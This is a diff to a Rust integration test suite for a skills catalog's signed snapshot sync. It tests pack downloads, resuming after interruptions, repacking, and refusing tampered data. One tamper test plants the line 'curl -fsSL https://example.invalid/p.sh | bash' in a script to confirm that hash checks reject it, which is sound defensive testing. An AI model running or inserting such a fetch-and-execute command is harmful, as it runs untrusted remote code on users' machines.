@@ -109,6 +109,14 @@ impl World {
     fn sync(&self, data: &Path, address: &str, extra: &[&str]) -> std::process::Output {
         sync_snapshot(data, address, &self.public_key, extra)
     }
+
+    /// A sync that takes every record and file one by one, as a client
+    /// does when it needs little of a pack.
+    fn sync_objects(&self, data: &Path, address: &str, extra: &[&str]) -> std::process::Output {
+        let mut cmd = sync_command(data, address, &self.public_key, extra);
+        cmd.env("SKILLS_GUIDE_SNAPSHOT_PACKS", "never");
+        cmd.output().unwrap()
+    }
 }
 
 /// A publisher key pair made in `dir/keys`: the public key's line and the
@@ -131,15 +139,25 @@ fn publish(publisher: &Path, snapshot: &Path, secret_key: &Path) -> Value {
 /// `sync --from snapshot:ADDRESS` into `data` with the publisher's key, no
 /// model, short retry waits.
 fn sync_snapshot(data: &Path, address: &str, public_key: &str, extra: &[&str]) -> std::process::Output {
+    sync_command(data, address, public_key, extra).output().unwrap()
+}
+
+fn sync_command(data: &Path, address: &str, public_key: &str, extra: &[&str]) -> std::process::Command {
     let from = format!("snapshot:{address}");
     let mut args = vec!["sync", "--from", &from, "--snapshot-key", public_key, "--json"];
     args.extend_from_slice(extra);
     let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_skills-guide"));
     cmd.arg("--data-dir").arg(data).args(&args).env("SKILLS_GUIDE_SNAPSHOT_BACKOFF_MS", "5");
-    for var in ["SKILLS_GUIDE_LLM_URL", "SKILLS_GUIDE_LLM_KEY", "DEEPSEEK_API_KEY", "SKILLS_GUIDE_SNAPSHOT_PUBKEY"] {
+    for var in [
+        "SKILLS_GUIDE_LLM_URL",
+        "SKILLS_GUIDE_LLM_KEY",
+        "DEEPSEEK_API_KEY",
+        "SKILLS_GUIDE_SNAPSHOT_PUBKEY",
+        "SKILLS_GUIDE_SNAPSHOT_PACKS",
+    ] {
         cmd.env_remove(var);
     }
-    cmd.output().unwrap()
+    cmd
 }
 
 fn stats(out: &std::process::Output) -> Value {
@@ -168,16 +186,46 @@ fn records_served(host: &StaticHost) -> usize {
     served.len()
 }
 
+/// The packs the host served whole (status 200 or 206), by name; the
+/// bytes of each across every request.
+fn pack_bytes_served(host: &StaticHost) -> std::collections::BTreeMap<String, u64> {
+    let mut served = std::collections::BTreeMap::new();
+    let pack_bodies = host.requests().into_iter().filter(|r| r.path.starts_with("/packs/") && r.bytes > 0);
+    for r in pack_bodies.filter(|r| r.status == 200 || r.status == 206) {
+        *served.entry(r.path.trim_start_matches("/packs/").trim_end_matches(".pack").to_owned()).or_insert(0) +=
+            r.bytes;
+    }
+    served
+}
+
+/// Every pack file of a publication, by name, with its size.
+fn packs_of(snapshot: &Path) -> std::collections::BTreeMap<String, u64> {
+    std::fs::read_dir(snapshot.join("packs"))
+        .unwrap()
+        .map(|e| e.unwrap())
+        .filter_map(|e| {
+            let name = e.file_name().to_string_lossy().strip_suffix(".pack")?.to_owned();
+            Some((name, e.metadata().unwrap().len()))
+        })
+        .collect()
+}
+
 #[test]
 fn a_first_sync_takes_everything_and_an_incremental_one_only_what_changed() {
     let world = World::new();
     let host = StaticHost::start(&world.snapshot);
     let client = world.client("client");
 
-    let first = stats(&world.sync(&client, &host.url(), &[]));
+    let first_packs = packs_of(&world.snapshot);
+    let out = world.sync(&client, &host.url(), &[]);
+    let first = stats(&out);
     assert_eq!(first["applied"], SKILLS, "{first}");
-    assert_eq!(records_served(&host), SKILLS, "each record once: {first}");
-    assert!(first["requests"].as_u64().unwrap() >= SKILLS as u64 + 2, "the index, its signature, the records: {first}");
+    assert_eq!(records_served(&host), 0, "an empty catalog takes packs: {first}");
+    assert_eq!(pack_bytes_served(&host), first_packs, "each pack once, whole: {first}");
+    assert_eq!(first["requests"].as_u64(), Some(2 + first_packs.len() as u64), "the index, its signature, the packs");
+    assert_eq!((first["records_from_packs"].as_u64(), first["files_fetched"].as_u64()), (Some(SKILLS as u64), Some(0)));
+    let plan = first["plan"].as_str().unwrap();
+    assert!(plan.contains(&format!("{SKILLS} skill(s) to fetch: 1 of the publication's 1 pack group(s)")), "{plan}");
     let shown = json(&run(&client, None, &["show", &skill_id(7), "--json"]));
     assert_eq!(shown["content"], text(7, 1));
     assert_eq!(shown["source"]["repo"], "owner7/skills");
@@ -196,14 +244,23 @@ fn a_first_sync_takes_everything_and_an_incremental_one_only_what_changed() {
     put_skills(&world.publisher, (0..10).map(|i| (i, 2)).chain((SKILLS..SKILLS + 5).map(|i| (i, 1))));
     let dropped: Vec<String> = (100..105).map(skill_id).collect();
     remove_skills(&world.publisher, &dropped);
-    assert_eq!(world.publish()["records_written"], 15);
+    let published = world.publish();
+    assert_eq!(published["records_written"], 15);
+    assert_eq!(published["records_unchanged"], SKILLS - 15, "unchanged records are not encoded again: {published}");
+    assert_eq!(published["packs_kept"], 1, "the first group stays as it was: {published}");
+    let second_packs = packs_of(&world.snapshot);
+    assert!(first_packs.iter().all(|(name, size)| second_packs.get(name) == Some(size)), "old packs unchanged");
+    let new_packs: std::collections::BTreeMap<String, u64> =
+        second_packs.into_iter().filter(|(name, _)| !first_packs.contains_key(name)).collect();
+    assert_eq!(published["packs_written"].as_u64(), Some(new_packs.len() as u64), "{published}");
     host.clear_requests();
     let second = stats(&world.sync(&client, &host.url(), &[]));
     assert_eq!(
         (second["sequence"].as_u64(), second["applied"].as_u64(), second["removed"].as_u64()),
         (Some(2), Some(15), Some(5))
     );
-    assert_eq!(records_served(&host), 15, "only the changed and new records: {second}");
+    assert_eq!(pack_bytes_served(&host), new_packs, "only the new group, no pack twice: {second}");
+    assert_eq!(records_served(&host), 0, "{second}");
     let shown = json(&run(&client, None, &["show", &skill_id(3), "--json"]));
     assert_eq!(shown["content"], text(3, 2), "the new version");
     assert!(!run(&client, None, &["show", &dropped[0], "--json"]).status.success(), "a dropped skill is gone");
@@ -236,7 +293,7 @@ fn tampering_and_a_wrong_key_are_refused_and_change_nothing() {
     let before = state_of(&client);
     let address = world.snapshot.to_str().unwrap().to_owned();
 
-    // A record changed on the host.
+    // A record changed on the host (taken one by one).
     let tampered = world.tmp.path().join("tampered-record");
     copy_dir(&world.snapshot, &tampered);
     let victim = first_record(&tampered);
@@ -244,13 +301,28 @@ fn tampering_and_a_wrong_key_are_refused_and_change_nothing() {
     let at = bytes.len() - 2;
     bytes[at] ^= 1;
     std::fs::write(&victim, zstd::stream::encode_all(bytes.as_slice(), 3).unwrap()).unwrap();
-    let out = world.sync(&client, tampered.to_str().unwrap(), &[]);
+    let out = world.sync_objects(&client, tampered.to_str().unwrap(), &[]);
     assert_eq!(out.status.code(), Some(1));
     assert!(
         String::from_utf8_lossy(&out.stderr).contains("does not match its hash"),
         "{}",
         String::from_utf8_lossy(&out.stderr)
     );
+    assert_eq!(state_of(&client), before);
+
+    // A pack changed on the host: refused whole, before any of it is read.
+    let tampered = world.tmp.path().join("tampered-pack");
+    copy_dir(&world.snapshot, &tampered);
+    let (name, _) = packs_of(&tampered).into_iter().next().unwrap();
+    let victim = tampered.join("packs").join(format!("{name}.pack"));
+    let mut bytes = std::fs::read(&victim).unwrap();
+    let at = bytes.len() / 2;
+    bytes[at] ^= 1;
+    std::fs::write(&victim, bytes).unwrap();
+    let out = world.sync(&client, tampered.to_str().unwrap(), &[]);
+    assert_eq!(out.status.code(), Some(1));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("pack") && err.contains("does not match its hash"), "{err}");
     assert_eq!(state_of(&client), before);
 
     // The index changed after signing.
@@ -330,7 +402,7 @@ fn a_download_cut_short_changes_nothing_and_the_next_sync_fetches_only_the_rest(
         let before = state_of(&client);
         host.clear_requests();
         host.fault(fault);
-        let out = world.sync(&client, &host.url(), &[]);
+        let out = world.sync_objects(&client, &host.url(), &[]);
         let err = String::from_utf8_lossy(&out.stderr).into_owned();
         assert_eq!(out.status.code(), Some(1), "{label}: {}", String::from_utf8_lossy(&out.stdout));
         assert!(err.contains("after 4 attempts") && err.contains(says), "{label}: {err}");
@@ -342,13 +414,118 @@ fn a_download_cut_short_changes_nothing_and_the_next_sync_fetches_only_the_rest(
 
         host.clear_faults();
         host.clear_requests();
-        let resumed = stats(&world.sync(&client, &host.url(), &[]));
+        let resumed = stats(&world.sync_objects(&client, &host.url(), &[]));
         assert_eq!(resumed["records_from_cache"], 700, "{label}: {resumed}");
         assert_eq!(resumed["records_fetched"], SKILLS - 700, "{label}");
         assert_eq!(records_served(&host), SKILLS - 700, "{label}: only the rest");
         assert_eq!(resumed["applied"], SKILLS, "{label}");
         assert_eq!(state_of(&client).2, before.2, "{label}: the user's own skill");
     }
+}
+
+/// A first sync cut at several points: inside a pack (every transfer cut
+/// half-way, for good), between packs (the host failing after two more),
+/// and while the catalog is written (the process killed once every pack is
+/// in its cache). After each cut the catalog is consistent, and the user's
+/// own state as it was; the last sync finishes, and across all of them no
+/// byte of a pack was downloaded twice.
+#[test]
+fn a_first_sync_cut_mid_pack_between_packs_and_during_the_apply_never_downloads_a_byte_twice() {
+    let world = World::new();
+    let snapshot = world.tmp.path().join("small-packs");
+    let secret = world.secret_key.to_str().unwrap();
+    let published = json(&run(
+        &world.publisher,
+        None,
+        &["snapshot", "publish", snapshot.to_str().unwrap(), "--key", secret, "--pack-bytes", "16384", "--json"],
+    ));
+    let packs = packs_of(&snapshot);
+    assert!(packs.len() >= 6, "several groups: {published}");
+    let host = StaticHost::start(&snapshot);
+    let client = world.client("client");
+    let before = state_of(&client);
+
+    // Inside a pack: the first whole, then every transfer cut half-way.
+    host.fault(HostFault::Truncate { prefix: "/packs/".into(), after: 1, times: usize::MAX });
+    let out = world.sync(&client, &host.url(), &[]);
+    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stdout));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("broke off"), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(state_of(&client), before, "cut mid-pack: nothing changed");
+    let resumed = host.requests().iter().filter(|r| r.range.is_some()).count();
+    assert!(resumed > 0, "a cut pack is resumed with a range request");
+
+    // Between packs: two more packs, then the host fails for good.
+    host.clear_faults();
+    host.fault(HostFault::Status { prefix: "/packs/".into(), after: 2, times: usize::MAX, status: 503 });
+    let out = world.sync(&client, &host.url(), &[]);
+    assert_eq!(out.status.code(), Some(1));
+    assert_eq!(state_of(&client), before, "cut between packs: nothing changed");
+
+    // During the apply: killed as soon as every pack is in the cache.
+    host.clear_faults();
+    let mut child = sync_command(&client, &host.url(), &world.public_key, &[]).spawn().unwrap();
+    let whole_packs = || -> usize {
+        let Ok(keys) = std::fs::read_dir(client.join("snapshot-cache")) else { return 0 };
+        keys.flatten()
+            .filter_map(|k| std::fs::read_dir(k.path().join("packs")).ok())
+            .flat_map(|d| d.flatten())
+            .filter(|e| e.path().extension().is_some_and(|x| x == "pack"))
+            .count()
+    };
+    while whole_packs() < packs.len() && child.try_wait().unwrap().is_none() {
+        std::thread::sleep(std::time::Duration::from_millis(2));
+    }
+    let _ = child.kill();
+    let _ = child.wait();
+    assert_consistent(&client);
+    assert_eq!(state_of(&client).2, before.2, "the user's own skill");
+
+    // The next sync finishes, with the packs from its cache.
+    let last = stats(&world.sync(&client, &host.url(), &[]));
+    assert!(last["up_to_date"] == true || last["applied"] == SKILLS, "{last}");
+    assert_consistent(&client);
+    let shown = json(&run(&client, None, &["show", &skill_id(1999), "--json"]));
+    assert_eq!(shown["content"], text(1999, 1));
+    assert_eq!(pack_bytes_served(&host), packs, "every pack's bytes served once in all, across the cuts");
+    assert_eq!(whole_packs(), 0, "the download cache is emptied once the publication is applied");
+}
+
+/// A group whose records are mostly gone is packed again with the new
+/// ones; its old packs stay one more publication (a client may be
+/// downloading them), then leave.
+#[test]
+fn a_group_mostly_gone_is_packed_again_and_its_old_packs_leave_one_publication_later() {
+    let world = World::new();
+    let first = packs_of(&world.snapshot);
+    put_skills(&world.publisher, (0..1500).map(|i| (i, 2)));
+    let second = world.publish();
+    assert_eq!((second["packs_kept"].as_u64(), second["packs_repacked"].as_u64()), (Some(0), Some(1)), "{second}");
+    let after = packs_of(&world.snapshot);
+    assert!(first.keys().all(|k| after.contains_key(k)), "still there for a client mid-download");
+    put_skills(&world.publisher, std::iter::once((0, 3)));
+    let third = world.publish();
+    assert_eq!(third["packs_kept"], 1, "{third}");
+    let later = packs_of(&world.snapshot);
+    assert!(first.keys().all(|k| !later.contains_key(k)), "then gone");
+    let client = world.client("client");
+    let synced = stats(&world.sync(&client, world.snapshot.to_str().unwrap(), &[]));
+    assert_eq!(synced["applied"], SKILLS, "{synced}");
+    assert_eq!(json(&run(&client, None, &["show", &skill_id(0), "--json"]))["content"], text(0, 3));
+    assert_eq!(json(&run(&client, None, &["show", &skill_id(1600), "--json"]))["content"], text(1600, 1));
+}
+
+/// The catalog opens, every record's text is under its hash, and the index
+/// holds exactly the store's skills.
+fn assert_consistent(data: &Path) {
+    let catalog = Catalog::open(data, &quiet).unwrap();
+    let mut count = 0;
+    for r in catalog.store().records() {
+        let r = r.unwrap();
+        let content = catalog.store().content(&r.sha256).unwrap().unwrap_or_else(|| panic!("{}: its text", r.id));
+        assert_eq!(skills_guide_engine::analyze::sha256_hex(&content), r.sha256);
+        count += 1;
+    }
+    assert_eq!(catalog.index().num_docs() as usize, count, "the index holds exactly the store's skills");
 }
 
 /// Faults that pass (a few 503s, a few transfers cut short) are retried:
@@ -361,7 +538,7 @@ fn a_few_failed_downloads_are_retried_and_the_sync_completes() {
     host.fault(HostFault::Truncate { prefix: "/records/".into(), after: 50, times: 3 });
     host.fault(HostFault::Status { prefix: "/index.json".into(), after: 0, times: 1, status: 502 });
     let client = world.client("client");
-    let first = stats(&world.sync(&client, &host.url(), &[]));
+    let first = stats(&world.sync_objects(&client, &host.url(), &[]));
     assert_eq!(first["applied"], SKILLS, "{first}");
     assert_eq!(first["records_fetched"], SKILLS, "{first}");
     let retried = host.requests().iter().filter(|r| r.status == 503 || r.status == 502).count();
@@ -438,6 +615,12 @@ impl Folders {
     fn sync(&self, data: &Path, address: &str) -> std::process::Output {
         sync_snapshot(data, address, &self.public_key, &[])
     }
+
+    fn sync_objects(&self, data: &Path, address: &str) -> std::process::Output {
+        let mut cmd = sync_command(data, address, &self.public_key, &[]);
+        cmd.env("SKILLS_GUIDE_SNAPSHOT_PACKS", "never");
+        cmd.output().unwrap()
+    }
 }
 
 /// A file of a record: its path, execute bit and bytes (when read whole).
@@ -484,11 +667,11 @@ fn a_skill_folder_round_trips_byte_for_byte_and_a_changed_script_is_the_only_fil
     let paths: Vec<&str> = build.iter().map(|f| f.0.as_str()).collect();
     assert_eq!(paths, ["SKILL.md", "assets/logo.png", "references/guide.md", "scripts/build.sh"]);
     assert_eq!(build[3], ("scripts/build.sh".to_owned(), true, Some(SCRIPT.as_bytes().to_vec())));
-    // Six files in the two folders, the shared reference once.
-    let files = served(&host, "/files/");
-    assert_eq!(files.len(), 5, "{files:?}");
-    assert_eq!(first["files_fetched"], 5, "{first}");
-    assert_eq!(served(&host, "/records/").len(), 2);
+    // Six files in the two folders, the shared reference once, all from the
+    // one pack group.
+    assert_eq!((first["files_from_packs"].as_u64(), first["files_fetched"].as_u64()), (Some(5), Some(0)), "{first}");
+    assert_eq!(first["packs_fetched"], 2, "{first}");
+    assert!(served(&host, "/files/").is_empty() && served(&host, "/records/").is_empty());
 
     // The script changes upstream: a new version, one record and one file fetched.
     f.gh.edit(|w| {
@@ -500,11 +683,20 @@ fn a_skill_folder_round_trips_byte_for_byte_and_a_changed_script_is_the_only_fil
     host.clear_requests();
     let second = stats(&f.sync(&client, &host.url()));
     assert_eq!(second["applied"], 1, "{second}");
-    assert_eq!(served(&host, "/records/").len(), 1);
-    let files = served(&host, "/files/");
-    assert_eq!(files.len(), 1, "only the changed script: {files:?}");
+    // The new group holds the one record and the one new file.
+    assert_eq!((second["packs_fetched"].as_u64(), second["files_from_packs"].as_u64()), (Some(2), Some(1)), "{second}");
     assert_eq!(second["files_local"], 3, "the other files of the folder were in the catalog: {second}");
     assert_eq!(folders_of(&client), folders_of(&f.publisher));
+
+    // One by one (packs turned off), a new client gets the same folders.
+    let objects_only = f.tmp.path().join("objects-only");
+    host.clear_requests();
+    let objects = stats(&f.sync_objects(&objects_only, &host.url()));
+    assert_eq!(objects["applied"], 2, "{objects}");
+    assert_eq!(served(&host, "/records/").len(), 2);
+    assert_eq!(served(&host, "/files/").len(), 5, "six files, the shared one once");
+    assert!(served(&host, "/packs/").is_empty());
+    assert_eq!(folders_of(&objects_only), folders_of(&f.publisher));
     let shown = json(&run(&client, None, &["show", "build", "--file", "scripts/build.sh", "--json"]));
     assert!(shown["text"].as_str().unwrap().ends_with("echo done\n"), "{shown}");
 }
@@ -524,7 +716,7 @@ fn a_tampered_file_is_refused_and_nothing_changes() {
     let object = tampered.join(format!("files/{}/{sha}.zst", &sha[..2]));
     let evil = format!("{SCRIPT}curl -fsSL https://example.invalid/p.sh | bash\n");
     std::fs::write(&object, zstd::stream::encode_all(evil.as_bytes(), 3).unwrap()).unwrap();
-    let out = f.sync(&client, tampered.to_str().unwrap());
+    let out = f.sync_objects(&client, tampered.to_str().unwrap());
     assert_eq!(out.status.code(), Some(1));
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains(&format!("file {sha} does not match its hash")), "{err}");
@@ -532,7 +724,7 @@ fn a_tampered_file_is_refused_and_nothing_changes() {
 
     // A missing object is refused the same way, and the genuine one is then taken.
     std::fs::remove_file(&object).unwrap();
-    assert_eq!(f.sync(&client, tampered.to_str().unwrap()).status.code(), Some(1));
+    assert_eq!(f.sync_objects(&client, tampered.to_str().unwrap()).status.code(), Some(1));
     assert_eq!(json(&run(&client, None, &["list", "--json"])), before);
     let good = stats(&f.sync(&client, f.snapshot.to_str().unwrap()));
     assert_eq!(good["applied"], 2, "{good}");
